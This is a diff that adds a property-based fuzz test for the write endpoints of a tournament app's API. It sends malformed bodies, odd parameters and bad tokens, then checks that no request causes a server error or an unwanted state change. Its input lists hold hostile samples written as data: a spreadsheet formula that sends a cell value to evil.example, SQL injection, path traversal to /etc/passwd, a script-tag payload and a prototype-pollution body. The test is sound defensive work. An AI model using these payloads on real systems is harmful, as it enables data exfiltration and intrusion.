@@ -1,0 +1,312 @@
+/**
+ * Property-based fuzz of every write operation in the OpenAPI document, through the real route
+ * handlers: bodies shaped by each operation's JSON schema with mutations (wrong types, missing
+ * and extra fields, huge strings, control characters, lone surrogates, bidi, out-of-range
+ * numbers), bad JSON, wrong content types and odd path parameters. Whatever is sent, the answer
+ * is never a 5xx, and a 4xx changes nothing.
+ *
+ * Reproduce a failure with the seed fast-check prints: HOLONET_FUZZ_SEED=<seed> npx vitest run tests/api/fuzz.test.ts
+ * More cases per operation: HOLONET_FUZZ_RUNS=500.
+ */
+import { existsSync } from "node:fs";
+import path from "node:path";
+import fc from "fast-check";
+import { beforeAll, describe, expect, it } from "vitest";
+import { getDb } from "@/lib/db";
+import { openApiDocument } from "@/lib/api/openapi";
+import { createApiToken } from "@/lib/server/accounts";
+import { makeCut } from "@/lib/server/cut";
+import { pairNextRound } from "@/lib/server/rounds";
+import type { User } from "@/lib/schemas/auth";
+import { newUser } from "../helpers";
+import { addStaffUser, eventWith, finishRound } from "../server/event-helpers";
+
+const RUNS = Number(process.env.HOLONET_FUZZ_RUNS ?? 100);
+const SEED = process.env.HOLONET_FUZZ_SEED ? Number(process.env.HOLONET_FUZZ_SEED) : undefined;
+const WRITE_METHODS = ["post", "put", "patch", "delete"] as const;
+
+type Json = Record<string, unknown>;
+type Schema = Json & { $ref?: string; type?: string | string[]; properties?: Record<string, Schema>; required?: string[] };
+type Handler = (req: Request, ctx: { params: Promise<Record<string, string> | undefined> }) => Promise<Response>;
+
+const doc = openApiDocument() as unknown as { paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: Schema }> } }>>; components: { schemas: Record<string, Schema> } };
+const operations = Object.entries(doc.paths).flatMap(([p, methods]) =>
+  WRITE_METHODS.filter((m) => methods[m]).map((method) => ({ method, path: p, body: methods[method]!.requestBody?.content["application/json"]?.schema })),
+);
+
+/** `/events/{eventId}/rounds/{number}` → app/api/v1/events/[eventId]/rounds/[number]/route.ts */
+const routeFile = (p: string) => path.join(import.meta.dirname, "../../app/api/v1", p.replace(/\{(\w+)\}/g, "[$1]"), "route.ts");
+
+async function handlerFor(method: string, p: string): Promise<Handler> {
+  const file = routeFile(p);
+  if (!existsSync(file)) throw new Error(`OpenAPI operation ${method.toUpperCase()} ${p} has no route handler at ${file}`);
+  const mod = (await import(file)) as Record<string, Handler | undefined>;
+  const handler = mod[method.toUpperCase()];
+  if (!handler) throw new Error(`${file} does not export ${method.toUpperCase()} for the documented operation`);
+  return handler;
+}
+
+// ── Values ──────────────────────────────────────────────────────────────────────────────────
+
+const NASTY_STRINGS = [
+  "\u0000", "a\u0000b", "a\ud800b", "\udc00", "\ud83d", "\u202eevil\u202c", "\u2066x\u2069", "\u200b\u200b", "\u200d", "\ufeff", "\u0301",
+  "\u0007bell", "\u001b[31m", "\u007f", "\u0085", "line\nbreak", "\r\n", "\t", " ", "", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+  "+1", "-1", "@SUM(1)", "' OR 1=1 --", "NaN", "Infinity", "-Infinity", "1e400", "1e20", "-0", "2147483648", "null", "undefined", "{}", "[]",
+  "%00", "%E0%A4%A", "../../etc/passwd", "<script>alert(1)</script>", "💥🃏", "ᄀ\u3164", "x".repeat(81), "x".repeat(5001),
+];
+const NASTY_NUMBERS = [0, -1, 1.5, -0.5, 2147483647, 2147483648, -2147483649, 1e20, -1e20, 1e308, Number.MAX_SAFE_INTEGER + 2, 0.1, 10001, 501, 241, 9];
+
+/** Strings of up to ~1 MB; the longest pass the body cap once JSON-encoded. */
+const hugeString = fc.constantFrom(10_000, 200_000, 1_100_000).chain((n) => fc.constantFrom("x", "\u200b", "é", "\ud83c\udccf").map((c) => c.repeat(Math.ceil(n / c.length))));
+const anyChar = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
+const oddString = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
+  { weight: 3, arbitrary: fc.string({ unit: anyChar, maxLength: 40 }) },
+  { weight: 2, arbitrary: fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 10 })).map((t) => t.join("")) },
+  { weight: 1, arbitrary: hugeString },
+);
+const junk: fc.Arbitrary<unknown> = fc.oneof(
+  { weight: 5, arbitrary: oddString },
+  { weight: 3, arbitrary: fc.constantFrom(...NASTY_NUMBERS) },
+  { weight: 1, arbitrary: fc.double() },
+  { weight: 1, arbitrary: fc.boolean() },
+  { weight: 1, arbitrary: fc.constant(null) },
+  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
+  { weight: 1, arbitrary: fc.constantFrom<unknown>([], {}, [[[[[]]]]], { constructor: { prototype: {} } }) },
+);
+
+const resolve = (s: Schema): Schema => (s.$ref ? resolve(doc.components.schemas[s.$ref.split("/").pop()!]!) : s);
+const typeOf = (s: Schema) => (Array.isArray(s.type) ? s.type : s.type ? [s.type] : []);
+const validString = (key: string): fc.Arbitrary<string> => {
+  if (/email/i.test(key)) return fc.tuple(fc.stringMatching(/^[a-z]{1,8}$/), fc.constantFrom("", "+x")).map(([u, t]) => `${u}${t}@fuzz.example`);
+  if (/password/i.test(key)) return fc.constantFrom("a long fuzz password", "correct horse battery");
+  return fc.oneof(fc.constantFrom("Kyle Katarn", "Mara Jade", "Rebel Alliance", "The Hunt for Han Solo (#86)", "Échoes d'Endor"), fc.string({ minLength: 1, maxLength: 30 }));
+};
+
+/** A value that fits `schema` (as far as JSON Schema tells), by key name for strings. */
+function valid(schema: Schema, key = "", depth = 0): fc.Arbitrary<unknown> {
+  const s = resolve(schema);
+  const options = (s.anyOf ?? s.oneOf) as Schema[] | undefined;
+  if (options) return fc.oneof(...options.map((o) => value(o, key, depth)));
+  if ("const" in s) return fc.constant(s.const);
+  if (Array.isArray(s.enum)) return fc.constantFrom(...(s.enum as unknown[]));
+  const types = typeOf(s);
+  if (types.length > 1) return fc.oneof(...types.map((t) => value({ ...s, type: t }, key, depth)));
+  switch (types[0]) {
+    case "null":
+      return fc.constant(null);
+    case "boolean":
+      return fc.boolean();
+    case "integer":
+    case "number":
+      return fc.integer({ min: (s.minimum as number | undefined) ?? -5, max: (s.maximum as number | undefined) ?? 1000 });
+    case "string":
+      return s.format === "date-time" ? fc.date({ min: new Date("2020-01-01"), max: new Date("2030-01-01"), noInvalidDate: true }).map((d) => d.toISOString()) : validString(key);
+    case "array": {
+      if (Array.isArray(s.prefixItems)) return fc.tuple(...(s.prefixItems as Schema[]).map((item) => value(item, key, depth + 1)));
+      const min = (s.minItems as number | undefined) ?? 0;
+      return fc.array(value((s.items as Schema | undefined) ?? {}, key, depth + 1), { minLength: min, maxLength: Math.max(min, 3) + 2 });
+    }
+    case "object": {
+      const props = s.properties ?? {};
+      const required = new Set(s.required ?? []);
+      const drop = required.size ? fc.option(fc.subarray([...required], { minLength: 1 }), { freq: 6 }) : fc.constant(null);
+      return fc
+        .tuple(
+          fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, value(v, k, depth + 1)])), { requiredKeys: [...required] }),
+          drop,
+          fc.option(fc.dictionary(fc.string({ maxLength: 8 }), junk, { maxKeys: 2 }), { freq: 5 }),
+        )
+        .map(([present, dropped, extra]) => {
+          // Mostly every required key; sometimes some are missing, sometimes keys nobody asked for.
+          const out: Json = { ...(extra ?? {}), ...present };
+          for (const k of dropped ?? []) delete out[k];
+          return out;
+        });
+    }
+    default:
+      return junk;
+  }
+}
+
+/** Mostly a value that fits, sometimes junk in its place (wrong type, odd string, huge, out of range). */
+function value(schema: Schema, key = "", depth = 0): fc.Arbitrary<unknown> {
+  if (depth > 6) return junk;
+  return fc.oneof({ weight: 5, arbitrary: valid(schema, key, depth) }, { weight: 1, arbitrary: junk });
+}
+
+interface Body {
+  bytes?: BodyInit;
+  contentType?: string;
+  length?: string;
+}
+const jsonBody = (v: unknown): Body => ({ bytes: JSON.stringify(v) ?? "", contentType: "application/json" });
+
+function bodies(schema: Schema | undefined): fc.Arbitrary<Body> {
+  const shaped = schema ? value(schema) : fc.oneof(fc.constant({}), junk);
+  return fc.oneof(
+    { weight: 12, arbitrary: shaped.map(jsonBody) },
+    { weight: 1, arbitrary: fc.constantFrom("{", '{"name":', "[1,2", "nul", "{'a':1}", '{"a":1}}', "\u0000", "\ufeff{}", '{"__proto__":{"admin":true},"name":"x"}', '{"a":"\\ud800"}', '{"a":"\\u0000"}', "1e400").map((t) => ({ bytes: t, contentType: "application/json" })) },
+    { weight: 1, arbitrary: fc.tuple(shaped, fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", undefined)).map(([v, type]) => ({ bytes: JSON.stringify(v) ?? "{}", contentType: type })) },
+    { weight: 1, arbitrary: fc.constantFrom<Body>({ bytes: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), contentType: "application/json" }, { bytes: "{}", contentType: "application/json", length: "99999999999" }, { bytes: `{"name":"${"x".repeat(1_100_000)}"}`, contentType: "application/json" }) },
+  );
+}
+
+// ── Path parameters ─────────────────────────────────────────────────────────────────────────
+
+const ODD_PARAMS = ["\u0000", "a\u0000", "%00", "%E0%A4%A", "\ud800", "2147483648", "1e20", "-1", "0", "1.5", "NaN", " 1", "0x1", "99999999999999999999", "x".repeat(300), "../..", "", "missing"];
+type ParamPick = { kind: "valid"; index: number } | { kind: "odd"; value: string };
+const paramPick: fc.Arbitrary<ParamPick> = fc.oneof(
+  { weight: 8, arbitrary: fc.nat(20).map((index) => ({ kind: "valid" as const, index })) },
+  { weight: 1, arbitrary: fc.constantFrom(...ODD_PARAMS).map((value) => ({ kind: "odd" as const, value })) },
+);
+
+// ── Fixtures: events in registration, in a Swiss round, and in elimination ──────────────────
+
+interface Fixture {
+  eventId: string;
+  org: User;
+  token: string;
+}
+
+async function fixtures(): Promise<Fixture[]> {
+  const registration = await eventWith(6, { swissRounds: 2, cutSize: 0 });
+  await addStaffUser(registration.eventId, "judge");
+  const swiss = await eventWith(8, { swissRounds: 2, cutSize: 0 });
+  await addStaffUser(swiss.eventId, "marshal");
+  await pairNextRound(swiss.org, swiss.eventId);
+  const elimination = await eventWith(8, { swissRounds: 1, cutSize: 4 });
+  await pairNextRound(elimination.org, elimination.eventId);
+  await finishRound(elimination.org, elimination.eventId, 1);
+  await makeCut(elimination.org, elimination.eventId);
+  await pairNextRound(elimination.org, elimination.eventId);
+  return Promise.all([registration, swiss, elimination].map(async ({ eventId, org }) => ({ eventId, org, token: await createApiToken(org.id) })));
+}
+
+async function idsOf(eventId: string) {
+  const db = await getDb();
+  const [players, matches, staff, rounds] = await Promise.all([
+    db.player.findMany({ where: { eventId }, select: { id: true }, orderBy: { seq: "asc" } }),
+    db.match.findMany({ where: { eventId }, select: { id: true }, orderBy: { id: "asc" } }),
+    db.eventStaff.findMany({ where: { eventId }, select: { id: true }, orderBy: { createdAt: "asc" } }),
+    db.round.findMany({ where: { eventId }, select: { number: true }, orderBy: { number: "asc" } }),
+  ]);
+  return { playerId: players.map((r) => r.id), matchId: matches.map((r) => r.id), staffId: staff.map((r) => r.id), number: rounds.map((r) => String(r.number)) };
+}
+
+/** Everything a request could change about an event, as one comparable string. */
+async function eventSnapshot(eventId: string): Promise<string> {
+  const db = await getDb();
+  const where = { eventId };
+  const rows = await Promise.all([
+    db.event.findUnique({ where: { id: eventId } }),
+    db.player.findMany({ where, orderBy: { id: "asc" } }),
+    db.round.findMany({ where, orderBy: { id: "asc" } }),
+    db.match.findMany({ where, orderBy: { id: "asc" } }),
+    db.eventStaff.findMany({ where, orderBy: { id: "asc" } }),
+    db.auditEntry.count({ where }),
+  ]);
+  return JSON.stringify(rows);
+}
+
+/** Accounts, tokens and events of the people a body names: what signup, login and create-event could add. */
+async function accountSnapshot(org: User, body: unknown): Promise<string> {
+  const db = await getDb();
+  const raw = typeof body === "object" && body !== null && typeof (body as Json).email === "string" ? ((body as Json).email as string) : null;
+  const emails = raw ? [raw, raw.trim().toLowerCase()] : [];
+  const rows = await Promise.all([
+    db.user.findMany({ where: { email: { in: emails } }, select: { id: true } }),
+    db.apiToken.count({ where: { userId: org.id } }),
+    db.eventStaff.count({ where: { userId: org.id } }),
+  ]);
+  return JSON.stringify(rows);
+}
+
+/** The URL is only for the record (params are passed as Next.js passes them, decoded). */
+const pathSegment = (v: string) => {
+  try {
+    return encodeURIComponent(v);
+  } catch {
+    return "%ED%A0%80"; // a lone surrogate has no UTF-8 form
+  }
+};
+
+const parseBody = (b: Body): unknown => {
+  try {
+    return typeof b.bytes === "string" ? JSON.parse(b.bytes) : null;
+  } catch {
+    return null;
+  }
+};
+
+// ── The property ────────────────────────────────────────────────────────────────────────────
+
+describe("fuzz: every write operation of the OpenAPI document", () => {
+  it("lists write operations, each mapped to its route handler", async () => {
+    expect(operations.length).toBeGreaterThanOrEqual(21);
+    for (const op of operations) await handlerFor(op.method, op.path);
+  });
+
+  let cases = 0;
+  const statuses = new Map<number, number>();
+  for (const op of operations) {
+    it(`${op.method.toUpperCase()} ${op.path}: never 5xx; a 4xx changes nothing`, async () => {
+      const handler = await handlerFor(op.method, op.path);
+      const events = await fixtures();
+      const paramNames = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
+      const arbitrary = fc.record({
+        fixture: fc.nat(events.length - 1),
+        params: fc.tuple(...paramNames.map(() => paramPick)),
+        body: bodies(op.body),
+        auth: fc.oneof({ weight: 20, arbitrary: fc.constant("organizer") }, { weight: 1, arbitrary: fc.constantFrom("none", "garbage") }),
+      });
+      await fc.assert(
+        fc.asyncProperty(arbitrary, async ({ fixture, params, body, auth }) => {
+          cases++;
+          const ev = events[fixture]!;
+          const ids = { ...(await idsOf(ev.eventId)), eventId: [ev.eventId] } as Record<string, string[]>;
+          const resolved = Object.fromEntries(
+            paramNames.map((name, i) => {
+              const pick = params[i]!;
+              const pool = ids[name] ?? [];
+              return [name, pick.kind === "odd" ? pick.value : (pool[pick.index % Math.max(pool.length, 1)] ?? "missing")];
+            }),
+          );
+          const url = `http://fuzz.local/api/v1${op.path.replace(/\{(\w+)\}/g, (_, n: string) => pathSegment(resolved[n]!))}`;
+          const headers: Record<string, string> = {};
+          if (auth === "organizer") headers.authorization = `Bearer ${ev.token}`;
+          if (auth === "garbage") headers.authorization = "Bearer not-a-token";
+          if (body.contentType) headers["content-type"] = body.contentType;
+          if (body.length) headers["content-length"] = body.length;
+          const parsed = parseBody(body);
+          const snapshot = () => (op.path.includes("{eventId}") ? eventSnapshot(ev.eventId) : accountSnapshot(ev.org, parsed));
+          const before = await snapshot();
+          let request: Request;
+          try {
+            request = new Request(url, { method: op.method.toUpperCase(), headers, body: body.bytes });
+          } catch {
+            return; // not a request a client can send (e.g. a header with a NUL)
+          }
+          const res = await handler(request, { params: Promise.resolve(paramNames.length ? resolved : undefined) });
+          const text = await res.text();
+          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
+          expect(res.status, `${op.method.toUpperCase()} ${url} → ${res.status} ${text.slice(0, 300)}`).toBeLessThan(500);
+          if (res.status >= 400) {
+            expect(await snapshot(), `${op.method.toUpperCase()} ${url} → ${res.status} changed state`).toBe(before);
+            expect(JSON.parse(text)).toMatchObject({ error: { code: expect.any(String), message: expect.any(String) } });
+          }
+        }),
+        { numRuns: RUNS, seed: SEED, endOnFailure: true },
+      );
+    });
+  }
+
+  it(`ran at least 2,000 cases in all`, () => {
+    console.log(`fuzz: ${cases} cases; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))}`);
+    expect(cases).toBeGreaterThanOrEqual(Math.min(2000, RUNS * operations.length));
+  });
+});
+
+beforeAll(async () => {
+  await newUser("fuzz-warmup"); // migrate the embedded database before the timed cases
+});
